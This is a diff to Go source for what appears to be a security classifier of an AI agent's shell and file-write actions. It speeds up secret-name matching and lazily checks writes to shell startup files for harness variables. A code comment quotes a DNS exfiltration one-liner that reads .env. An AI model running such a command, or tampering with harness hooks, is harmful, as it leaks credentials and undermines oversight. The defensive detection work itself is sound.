@@ -29,7 +29,7 @@ func (c *Classifier) bashTool(r *result, ev *claude.Event, cwd string) {
 	}
 	c.program(r, *in.Command, cwd)
 	r.outboundProgram(*in.Command)
-	c.harnessEnvWrite(r, *in.Command, r.writes, ShellExec)
+	c.harnessEnvWrite(r, func() string { return *in.Command }, r.writes, ShellExec)
 	// A credential read is file_read on its own; next to a command that writes, runs or
 	// sends (dig $(cat .env).x.com), it must not carry that command at file_read's trust.
 	other := false
@@ -362,16 +362,60 @@ func resolve(w shell.Word, d shell.Dir, tree bool) []target {
 }
 
 // secretName: the seed's API_KEY, SECRET, TOKEN, PASSWORD, and their usual spellings.
+//
+// It is asked of every variable a program names (namesRead), thousands in a large script, so
+// an ASCII name is read once, trying the words that start with the letter at hand.
 func secretName(n string) bool {
 	if !ascii(n) { // upper case can make ASCII of other letters (ſ is S)
 		n = strings.ToLower(strings.ToUpper(n))
+		for _, s := range secretWords {
+			if containsFold(n, s) {
+				return true
+			}
+		}
+		return false
 	}
-	for _, s := range secretWords {
-		if containsFold(n, s) {
-			return true
+	for i := 0; i+secretShortest <= len(n); i++ {
+		if c := lowerASCII(n[i]); secretFirst[c] {
+			for _, s := range secretWords {
+				if s[0] == c && hasPrefixFoldASCII(n[i:], s) {
+					return true
+				}
+			}
 		}
 	}
 	return false
+}
+
+// secretFirst marks the first letters of secretWords; secretShortest is the shortest's length.
+var secretFirst, secretShortest = func() (first [256]bool, shortest int) {
+	shortest = len(secretWords[0])
+	for _, s := range secretWords {
+		first[s[0]] = true
+		shortest = min(shortest, len(s))
+	}
+	return first, shortest
+}()
+
+// hasPrefixFoldASCII reports whether the ASCII text s starts with the lower-case word w in any
+// case.
+func hasPrefixFoldASCII(s, w string) bool {
+	if len(s) < len(w) {
+		return false
+	}
+	for i := 0; i < len(w); i++ {
+		if lowerASCII(s[i]) != w[i] {
+			return false
+		}
+	}
+	return true
+}
+
+func lowerASCII(c byte) byte {
+	if 'A' <= c && c <= 'Z' {
+		return c + 'a' - 'A'
+	}
+	return c
 }
 
 // secretWords are what secretName looks for, in any case (lower case here: containsFold).
@@ -548,10 +592,11 @@ func (c *Classifier) command(r *result, cmd *shell.Cmd) {
 // harnessEnvWrite: text that sets a variable the hooks trust (OATH_BIN …) written into a file
 // a shell or direnv loads is critical, whatever the file (the well-known ones are protected
 // outright; this catches ~/.config/fish/functions/x.fish, a project's .envrc, /etc/*rc …).
-func (c *Classifier) harnessEnvWrite(r *result, text string, writes []string, domain domain.Domain) {
+// text is made only for a startup file: a Write's can be a 100 kB script, and few files are.
+func (c *Classifier) harnessEnvWrite(r *result, text func() string, writes []string, domain domain.Domain) {
 	for _, w := range writes {
-		if startupFile(w) { // first: the text can be a 100 kB script, and few files are startup files
-			if !setsHarnessEnv(text) {
+		if startupFile(w) {
+			if !setsHarnessEnv(text()) {
 				return
 			}
 			r.add(risk.Critical, domain, ruleSelfProtection, w, "writes "+w+", which a shell or direnv loads, with a setting of OATH_BIN, OATH_HOME, OATH_HOOKS_DIR or CLAUDE_PROJECT_DIR: the hooks trust those to find the harness")
